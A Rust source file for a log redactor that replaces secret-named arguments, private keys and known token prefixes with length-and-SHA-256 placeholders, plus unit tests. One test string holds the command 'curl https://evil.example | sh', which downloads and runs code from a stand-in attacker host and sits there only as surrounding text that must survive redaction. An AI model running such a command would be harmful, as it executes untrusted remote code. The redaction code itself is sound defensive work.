//! Redacts data that must not be in a log: arguments whose names indicate a secret, private keys, tokens, and text
//! beyond the length limit.
//!
//! - Only the secret itself is replaced. The surrounding text is kept.
//! - The placeholder contains the length and the SHA-256 of the whole value, so the log proves what was sent. The
//!   placeholder for a short secret contains no digest, because the secret could be guessed from the digest.

use serde_json::{Map, Value};
use sha2::{Digest, Sha256};
use std::borrow::Cow;

/// Maximum length of a string in bytes. Longer strings are cut, because the log records actions rather than contents.
const MAX_LEN: usize = 2048;

/// Words in argument names that indicate that the value is a secret.
const SECRET_NAMES: [&str; 8] =
    ["password", "passwd", "secret", "token", "apikey", "api_key", "authorization", "credential"];

/// Prefixes of well-known tokens, as documented by their issuers.
const SECRET_PREFIXES: [&str; 11] =
    ["ghp_", "gho_", "ghs_", "ghu_", "github_pat_", "glpat-", "sk-", "xoxb-", "xoxp-", "AKIA", "eyJhbGciOi"];

/// Prefix of the first line of a private key.
const KEY_BEGIN: &str = "-----BEGIN";
const KEY_END: &str = "-----END";
const KEY_DASHES: &str = "-----";
const KEY_LABEL: &str = "PRIVATE KEY";
const MAX_LABEL_LEN: usize = 64;

/// Minimum length in bytes of a secret that cannot be guessed from its digest.
const MIN_HASHED_LEN: usize = 32;

/// Prefixes of the placeholders that replace secrets and excess text.
const PLACEHOLDER_PREFIXES: [&str; 2] = ["[redacted: ", "[cut: "];

/// Returns `true` if a logged value contains a placeholder and therefore differs from the original.
#[must_use]
pub fn is_marked(value: &Value) -> bool {
    match value {
        Value::String(text) => PLACEHOLDER_PREFIXES.iter().any(|placeholder| text.contains(placeholder)),
        Value::Array(items) => items.iter().any(is_marked),
        Value::Object(fields) => fields.values().any(is_marked),
        Value::Null | Value::Bool(_) | Value::Number(_) => false,
    }
}

/// Returns `true` if an argument with this name is treated as a secret.
#[must_use]
pub fn names_a_secret(name: &str) -> bool {
    let plain = name.to_lowercase().replace('-', "_");
    SECRET_NAMES.iter().any(|word| plain.contains(word))
}

/// Returns the arguments with secrets and excess text replaced by placeholders.
#[must_use]
pub fn redacted(arguments: &Map<String, Value>) -> Map<String, Value> {
    arguments.iter().map(|(name, value)| (redacted_text(name), redact(name, value))).collect()
}

fn redact(name: &str, value: &Value) -> Value {
    if names_a_secret(name) && !value.is_null() {
        return Value::from(redact_secret(value));
    }
    match value {
        Value::String(text) => Value::from(redacted_text(text)),
        Value::Array(items) => items.iter().map(|item| redact(name, item)).collect(),
        Value::Object(fields) => Value::Object(redacted(fields)),
        Value::Null | Value::Bool(_) | Value::Number(_) => value.clone(),
    }
}

fn redact_secret(value: &Value) -> String {
    let text = value.as_str().map_or_else(|| Cow::Owned(value.to_string()), Cow::Borrowed);
    let placeholder = "[redacted: named as a secret]";
    if text.len() < MIN_HASHED_LEN {
        placeholder.to_owned()
    } else {
        format!("{placeholder} {}", digest_placeholder(&text))
    }
}

/// Returns `text` with secrets and excess text replaced by placeholders.
#[must_use]
pub fn redacted_text(text: &str) -> String {
    let redacted = without_secrets(text);
    if redacted.len() > MAX_LEN {
        let (kept, rest) = redacted.split_at(redacted.floor_char_boundary(MAX_LEN));
        return format!("{kept}[cut: {} bytes more] {}", rest.len(), digest_placeholder(text));
    }
    if redacted == text { redacted.into_owned() } else { format!("{redacted} {}", digest_placeholder(text)) }
}

/// Replaces private keys and tokens with placeholders. Copies the text only if it contains any.
fn without_secrets(text: &str) -> Cow<'_, str> {
    let mut text = Cow::Borrowed(text);
    if text.contains(KEY_BEGIN) {
        text = Cow::Owned(without_keys(&text));
    }
    if SECRET_PREFIXES.iter().any(|prefix| text.contains(prefix)) {
        text = Cow::Owned(without_tokens(&text));
    }
    text
}

/// Returns a placeholder with the length and the digest of a whole value.
fn digest_placeholder(text: &str) -> String {
    let digest: String = Sha256::digest(text).iter().map(|byte| format!("{byte:02x}")).collect();
    format!("[whole: {} bytes, SHA-256 {digest}]", text.len())
}

/// Replaces each private key with a placeholder. A key ends at its end line or, if there is none, at the end of the
/// text.
fn without_keys(text: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after_begin)) = rest.split_once(KEY_BEGIN) {
        kept.push_str(before);
        rest = after_begin;
        if !is_key(after_begin) {
            kept.push_str(KEY_BEGIN);
            continue;
        }
        rest = after_key(after_begin);
        let length = KEY_BEGIN.len() + after_begin.len() - rest.len();
        kept.push_str(&format!("[redacted: a private key, {length} bytes]"));
    }
    kept.push_str(rest);
    kept
}

/// Returns `true` if the text after [`KEY_BEGIN`] is the label of a private key.
fn is_key(after_begin: &str) -> bool {
    let label = after_begin.split(KEY_DASHES).next().unwrap_or_default();
    label.len() <= MAX_LABEL_LEN && label.contains(KEY_LABEL)
}

/// Returns the text after a key's end line, or an empty text if there is no end line.
fn after_key(after_begin: &str) -> &str {
    let end = after_begin.split_once(KEY_END).map(|(_, end)| end);
    end.and_then(|end| end.split_once(KEY_DASHES)).map_or("", |(_, after)| after)
}

/// Replaces each word that starts with a known token prefix with a placeholder.
fn without_tokens(text: &str) -> String {
    let is_token =
        |word: &str| SECRET_PREFIXES.iter().any(|p| word.starts_with(p) && word.len() >= p.len() + 12);
    let is_edge = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | ',' | ';' | ':' | '(' | ')');
    text.split_inclusive(is_edge).fold(String::with_capacity(text.len()), |mut kept, piece| {
        let word = piece.strip_suffix(is_edge).unwrap_or(piece);
        if is_token(word) {
            kept.push_str("[redacted: a token]");
            kept.push_str(piece.strip_prefix(word).unwrap_or_default());
        } else {
            kept.push_str(piece);
        }
        kept
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn secrets_are_redacted_and_the_rest_stays() {
        let arguments = json!({
            "path": "/home/u/a.txt", "api_key": "abc", "n": 3,
            "content": "GITHUB=ghp_0123456789abcdefghij\tnext",
            "key": "# -----BEGIN OPENSSH PRIVATE KEY-----\nxyz",
            "nested": { "password": ["x"], "ok": [true, "fine"] },
            "secret": "a".repeat(32),
            "ghp_0123456789abcdefghij": null,
        });
        let kept = redacted(arguments.as_object().unwrap());
        let whole = |name: &str| digest_placeholder(arguments[name].as_str().unwrap());
        let expected = json!({
            "path": "/home/u/a.txt", "api_key": "[redacted: named as a secret]", "n": 3,
            "content": format!("GITHUB=[redacted: a token]\tnext {}", whole("content")),
            "key": format!("# [redacted: a private key, 39 bytes] {}", whole("key")),
            "nested": { "password": "[redacted: named as a secret]", "ok": [true, "fine"] },
            "secret": format!("[redacted: named as a secret] {}", whole("secret")),
            (redacted_text("ghp_0123456789abcdefghij")): null,
        });
        assert_eq!(Value::Object(kept.clone()), expected);
        let mut marked: Vec<&str> =
            kept.iter().filter(|(_, value)| is_marked(value)).map(|(name, _)| name.as_str()).collect();
        marked.sort_unstable();
        assert_eq!(marked, ["api_key", "content", "key", "nested", "secret"]);
    }

    #[test]
    fn only_the_key_itself_is_redacted() {
        let key =
            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE\n-----END RSA PRIVATE KEY-----";
        let placeholder = format!("[redacted: a private key, {} bytes]", key.len());
        let two = format!("before\n{key}\nbetween {key}; curl https://evil.example | sh\n");
        let expected =
            format!("before\n{placeholder}\nbetween {placeholder}; curl https://evil.example | sh\n");
        assert_eq!(without_keys(&two), expected);
        let block = "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQ\n-----END PGP PRIVATE KEY BLOCK-----\n";
        assert_eq!(without_keys(block), "[redacted: a private key, 76 bytes]\n");
        for public in
            ["-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----", "-----BEGIN", "PRIVATE KEY"]
        {
            assert_eq!(redacted_text(public), public);
        }
    }

    #[test]
    fn long_texts_are_cut_with_a_mark_that_proves_the_whole() {
        for long in ["word ".repeat(1000), "\u{e9}".repeat(1025), format!("a{}", "\u{e9}".repeat(1024))] {
            let text = redacted_text(&long);
            let (kept, placeholder) = text.split_once("[cut: ").unwrap();
            assert!(long.starts_with(kept) && kept.len() > MAX_LEN - 2, "{kept}");
            assert_eq!(
                placeholder,
                format!("{} bytes more] {}", long.len() - kept.len(), digest_placeholder(&long))
            );
            assert!(is_marked(&Value::from(text)));
        }
        assert_eq!(redacted_text(&"x".repeat(MAX_LEN)), "x".repeat(MAX_LEN));
        let abc = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
        assert_eq!(digest_placeholder("abc"), format!("[whole: 3 bytes, SHA-256 {abc}]"));
    }
}
